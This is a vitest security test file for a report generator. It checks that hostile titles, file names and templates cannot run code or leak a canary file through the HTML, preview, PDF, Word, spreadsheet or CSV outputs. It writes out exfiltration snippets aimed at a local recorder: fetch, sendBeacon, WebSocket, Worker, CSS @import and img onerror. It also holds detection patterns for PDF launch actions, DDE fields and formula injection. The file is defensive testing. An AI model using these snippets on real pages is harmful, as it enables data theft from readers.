import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { PDFDocument } from '@cantoo/pdf-lib';
import type { Page } from 'puppeteer';
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest';
import { type LaunchedBrowser, launchBrowser } from '../../src/host/browser.js';
import { previewAssets } from '../../src/host/preview-assets.js';
import { readSource } from '../../src/host/readers/index.js';
import type { Comparison } from '../../src/model/comparison.js';
import { toDocx } from '../../src/publish/docx/index.js';
import { printPdf } from '../../src/publish/pdf.js';
import { previewPage } from '../../src/publish/preview-page.js';
import { servePreview } from '../../src/publish/preview-server.js';
import { toXlsx } from '../../src/publish/xlsx.js';
import { readZip } from '../../src/publish/zip.js';
import { pageRenderer, plainTables, renderHtml, TemplateError, toCsv } from '../../src/report/index.js';
import { testBrowser } from '../support/browser.js';
import { hostileComparison } from '../support/sample-comparison.js';
import { loadTemplates } from '../support/templates.js';
import { reaches, scripts } from './payloads.js';

const templates = loadTemplates();
const SECRET = `canary ${Math.floor(Date.now() / 7)}`;
let folder = '';
let recorder: Server;
/** Every request that reached the recorder. */
const asked: string[] = [];
let leak = '';
let all: string[] = [];
let launched: LaunchedBrowser;

beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'duizhao-test-'));
  writeFileSync(join(folder, 'canary.txt'), SECRET);
  recorder = createServer((request, response) => {
    asked.push(request.url ?? '');
    response.end('ran("remote")');
  });
  await new Promise<void>((resolve) => recorder.listen(0, '127.0.0.1', resolve));
  recorder.on('connection', () => asked.push('a connection'));
  leak = `http://127.0.0.1:${(recorder.address() as AddressInfo).port}`;
  all = [...scripts(leak), ...reaches(leak, pathToFileURL(join(folder, 'canary.txt')).href)];
  launched = await launchBrowser(testBrowser());
});
afterAll(async () => {
  await launched.close();
  recorder.close();
  recorder.closeAllConnections();
  rmSync(folder, { recursive: true, force: true });
});

/** The sample with another payload behind every string, file names too; `turn` shifts which goes where. */
function poisoned(turn: number): Comparison {
  let at = turn;
  const next = (): string => JSON.stringify(all[at++ % all.length] ?? '').slice(1, -1);
  const text = JSON.stringify(hostileComparison('\u{f0000}')).replaceAll('\u{f0000}', next);
  const files = new Map<string, string>();
  const rename = (value: unknown, key: string): unknown => {
    if (key === 'file' && typeof value === 'string') {
      const name = files.get(value) ?? `${value}${all[at++ % all.length]}`;
      files.set(value, name);
      return name;
    }
    if (Array.isArray(value)) return value.map((entry) => rename(entry, key));
    if (value === null || typeof value !== 'object') return value;
    return Object.fromEntries(Object.entries(value).map(([name, entry]) => [name, rename(entry, name)]));
  };
  return rename(JSON.parse(text), '') as Comparison;
}
const render = (comparison: Comparison, more: Readonly<Record<string, string>> = {}): string =>
  renderHtml(comparison, { templates: { ...templates, ...more }, fonts: [], lang: 'zh-CN' }).value;
const turns = [0, 50, 100];

/** Opens an address as a reader would, pokes everything, and tells what ran, what was asked for and where links lead. */
async function visit(address: string): Promise<{ ran: unknown[]; requests: string[]; links: string[]; text: string }> {
  const page: Page = await launched.browser.newPage();
  const requests: string[] = [];
  const ran: unknown[] = [];
  await page.exposeFunction('ran', (what: unknown) => ran.push(what));
  page.on('dialog', (dialog) => {
    ran.push(dialog.message());
    void dialog.dismiss();
  });
  page.on('request', (request) => {
    if (!request.url().startsWith('data:')) requests.push(request.url());
  });
  try {
    await page.goto(address, { waitUntil: 'load' });
    const seen = (await page.evaluate(`(() => {
      for (const element of document.querySelectorAll('body *'))
        for (const type of ['mouseover', 'focus', 'toggle', 'error', 'load', 'animationstart']) element.dispatchEvent(new Event(type));
      for (const element of document.querySelectorAll('button, summary, input')) element.click();
      return { links: [...document.querySelectorAll('[href], [src], [action], [data]')].map((e) => e.getAttribute('href') ?? e.getAttribute('src') ?? e.getAttribute('action') ?? e.getAttribute('data')), text: document.documentElement.innerText };
    })()`)) as { links: string[]; text: string };
    await new Promise((resolve) => setTimeout(resolve, 200));
    return { ran, requests, ...seen };
  } finally {
    await page.close();
  }
}

test('there are payloads enough, and the recorder and the pages of this test would tell', async () => {
  expect(scripts(leak).length).toBeGreaterThanOrEqual(40);
  expect(reaches(leak, 'x').length).toBeGreaterThanOrEqual(20);
  writeFileSync(join(folder, 'control.html'), `<p>x</p><script>ran('control')</script><img src="${leak}/control">`);
  const seen = await visit(pathToFileURL(join(folder, 'control.html')).href);
  expect(seen.ran).toEqual(['control']);
  expect(asked).toContain('/control');
  asked.length = 0;
});

describe('hostile titles, sentences, file names and metadata', () => {
  test.each(turns)(
    'in the HTML brief, opened as a file (turn %i): nothing runs, nothing is asked for',
    async (turn) => {
      const path = join(folder, `brief-${turn}.html`);
      writeFileSync(path, render(poisoned(turn)));
      const seen = await visit(pathToFileURL(path).href);
      expect(seen.ran).toEqual([]);
      expect(seen.requests).toEqual([pathToFileURL(path).href]);
      expect(seen.links.filter((link) => !link.startsWith('#') && !link.startsWith('data:'))).toEqual([]);
      expect(seen.text).not.toContain(SECRET);
      // the text is there all the same, as text
      expect(all.filter((payload) => seen.text.includes(payload)).length).toBeGreaterThan(20);
      expect(asked).toEqual([]);
    },
  );

  test.each(turns.slice(0, 2))('in the preview (turn %i): only its own addresses are asked for', async (turn) => {
    const server = await servePreview({
      port: 0,
      ...previewAssets(),
      language: 'en',
      printPdf: () => Promise.reject(new Error('not here')),
    });
    try {
      server.show({ page: previewPage(render(poisoned(turn))), problem: all });
      const seen = await visit(server.url);
      expect(seen.ran).toEqual([]);
      expect(seen.requests.filter((url) => !url.startsWith(server.url))).toEqual([]);
      expect(seen.text).not.toContain(SECRET);
      expect(asked).toEqual([]);
    } finally {
      await server.close();
    }
  });

  test('in the PDF: no file is printed, nothing is asked for, no action leads out', async () => {
    const html = render(poisoned(0));
    // what would be taken for markup, were it not escaped
    // (a refresh takes the document away while it is printed: that is an error, tried below)
    const raw = html.replace(
      '<main',
      () => `${all.filter((payload) => !payload.includes('http-equiv')).join('\n')}<main`,
    );
    for (const page of [html, raw]) {
      const bytes = await printPdf(page, {
        browser: launched.browser,
        title: all[0] ?? '',
        lang: 'zh-CN',
        date: new Date(0),
      });
      const { value } = await readSource(bytes, 'x.pdf');
      expect(value?.text.length).toBeGreaterThan(100);
      expect(value?.text).not.toContain(SECRET);
      const doc = await PDFDocument.load(bytes, { updateMetadata: false });
      const actions = doc.context
        .enumerateIndirectObjects()
        .map(([, object]) => object.toString())
        .filter((object) =>
          /\/S \/(?:URI|Launch|JavaScript|GoToR|GoToE|SubmitForm|ImportData|Rendition)\b|\/EmbeddedFile\b|\/JS\b/.test(
            object,
          ),
        );
      // a link out of raw markup is a link that a reader would have to follow, not one that leads by itself
      if (page === html) expect(actions).toEqual([]);
      else expect(actions.every((object) => /\/URI\b/.test(object))).toBe(true);
    }
    const refresh = all.find((payload) => payload.includes('http-equiv')) ?? '';
    await printPdf(
      html.replace('<main', () => `${refresh}<main`),
      {
        browser: launched.browser,
        title: 'x',
        lang: 'zh-CN',
        date: new Date(0),
      },
    ).catch((error: unknown) => expect(error).toBeInstanceOf(Error));
    expect(asked).toEqual([]);
  });

  test.each(turns)('in the Word file (turn %i): no field, no link out, well-formed', async (turn) => {
    const bytes = await toDocx(poisoned(turn), { templates, lang: 'zh-CN', date: new Date(0) });
    for (const [name, part] of readZip(bytes)) {
      if (!/\.(?:xml|rels)$/.test(name)) continue;
      const xml = Buffer.from(part).toString('utf8');
      expect(xml, name).not.toMatch(/TargetMode="External"|<!DOCTYPE|<!ENTITY|<w:altChunk|<o:OLEObject|<w:control\b/);
      expect(
        xml
          .match(/<w:instrText[^>]*>[^<]*/g)
          ?.filter((field) => /INCLUDE|DDE|LINK |HYPERLINK +"?(?:http|file|\\\\)/i.test(field)) ?? [],
      ).toEqual([]);
      expect(xml, name).not.toMatch(/<(?:script|iframe|img|svg)\b/i);
    }
  });

  test.each(turns)('in the spreadsheet and the tables (turn %i): no formula, no link', async (turn) => {
    const tables = plainTables(poisoned(turn));
    for (const [name, part] of readZip(await toXlsx(tables))) {
      const xml = Buffer.from(part).toString('utf8');
      expect(xml, name).not.toMatch(/<f>|<f |<hyperlink|TargetMode="External"|<!ENTITY|<ddeLink|<externalReference/);
    }
    for (const table of tables) {
      const cells = [...toCsv(table).matchAll(/(?:^|,|\n)(?:"((?:[^"]|"")*)"|([^",\r\n]*))/g)].map(
        ([, quoted, bare]) => quoted ?? bare ?? '',
      );
      expect(cells.filter((cell) => /^[=+@\t\r]|^-(?![0-9.]+$)/.test(cell))).toEqual([]);
    }
  });
});

test('characters that turn the reading direction turn nothing: a figure shows as it was written', async () => {
  const marks = '\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069';
  const comparison = hostileComparison(`\u202e021${marks}`);
  const path = join(folder, 'direction.html');
  writeFileSync(path, render(comparison));
  const { text } = await visit(pathToFileURL(path).href);
  expect(text).toContain('021');
  expect(text).not.toMatch(new RegExp(`[${marks}]`));
  for (const [name, part] of readZip(await toDocx(comparison, { templates, lang: 'zh-CN', date: new Date(0) })))
    if (name.startsWith('word/'))
      expect(
        Buffer.from(part)
          .toString('utf8')
          .match(new RegExp(`.{20}[${marks}]`, 'g')) ?? [],
        name,
      ).toEqual([]);
});

describe('hostile templates', () => {
  test.each<readonly [string, (leak: string, canary: string) => string]>([
    ['an import', (leak) => `@import url(${leak}/style-import);`],
    ['a background', (leak) => `*{background:url(${leak}/style-background)}`],
    ['a face', (leak) => `@font-face{font-family:"Noto Sans SC";src:url(${leak}/style-face)}`],
    ['the canary', (_, canary) => `*::before{content:url(${canary})}*{mask:url(${canary})}`],
    ['the end of its element', (leak) => `</style><img src=x onerror=ran('css')><img src="${leak}/style-out"><style>`],
  ])('a style sheet of one’s own with %s: nothing runs and nothing leaves, or it is refused', async (_, css) => {
    const style = `${css(leak, pathToFileURL(join(folder, 'canary.txt')).href)}\n${templates['brief.css']}`;
    let html: string;
    try {
      html = render(hostileComparison(''), { 'brief.css': style });
    } catch (error) {
      expect(error).toBeInstanceOf(TemplateError);
      return;
    }
    writeFileSync(join(folder, 'style.html'), html);
    const seen = await visit(pathToFileURL(join(folder, 'style.html')).href);
    expect(seen.ran).toEqual([]);
    expect(seen.text).not.toContain(SECRET);
    expect(asked).toEqual([]);
  });

  test('a script of one’s own reaches neither network nor files', async () => {
    const canary = pathToFileURL(join(folder, 'canary.txt')).href;
    const script = `
      fetch("${leak}/page-fetch").catch(() => {}); fetch("${canary}").then((r) => r.text()).then(ran).catch(() => {});
      new Image().src = "${leak}/page-image"; navigator.sendBeacon("${leak}/page-beacon");
      try { new WebSocket("${leak.replace('http', 'ws')}/page-socket"); new EventSource("${leak}/page-events"); } catch {}
      try { new Worker("${leak}/page-worker"); } catch {}
      try { eval("ran('eval')"); } catch {}
      document.head.append(Object.assign(document.createElement('script'), { src: "${leak}/page-script" }));`;
    writeFileSync(join(folder, 'script.html'), render(hostileComparison(''), { 'page.js': script }));
    const seen = await visit(pathToFileURL(join(folder, 'script.html')).href);
    expect(seen.ran).toEqual([]);
    expect(asked).toEqual([]);
  });

  test('raw markup of every kind in a template: nothing runs and nothing leaves, or the template is refused with its line', async () => {
    const comparison = hostileComparison('');
    const renderAgain = pageRenderer();
    const logged = vi.spyOn(console, 'error').mockImplementation(() => {});
    const taken = all.filter((payload) => {
      try {
        const own = { ...templates, 'mast.hbs': payload };
        renderAgain(comparison, { templates: own, fonts: [], lang: 'zh-CN' });
        return true;
      } catch (error) {
        expect(error, payload).toBeInstanceOf(TemplateError);
        expect((error as TemplateError).template).toBe('mast.hbs');
        return false;
      }
    });
    expect(all.length - taken.length).toBeGreaterThan(10);
    expect(logged).not.toHaveBeenCalled();
    logged.mockRestore();
    // those that were taken, all in one page and each closed off from the next
    const page = render(hostileComparison(''), {
      'mast.hbs': `${templates['mast.hbs']}${taken.map((payload) => `<div>${payload}</div></script></style></title></textarea></noscript></template></svg></math>-->`).join('\n')}`,
    });
    const path = join(folder, 'template.html');
    writeFileSync(path, page);
    const seen = await visit(pathToFileURL(path).href);
    expect(seen.ran).toEqual([]);
    expect(seen.text).not.toContain(SECRET);
    expect(asked).toEqual([]);
  });
});
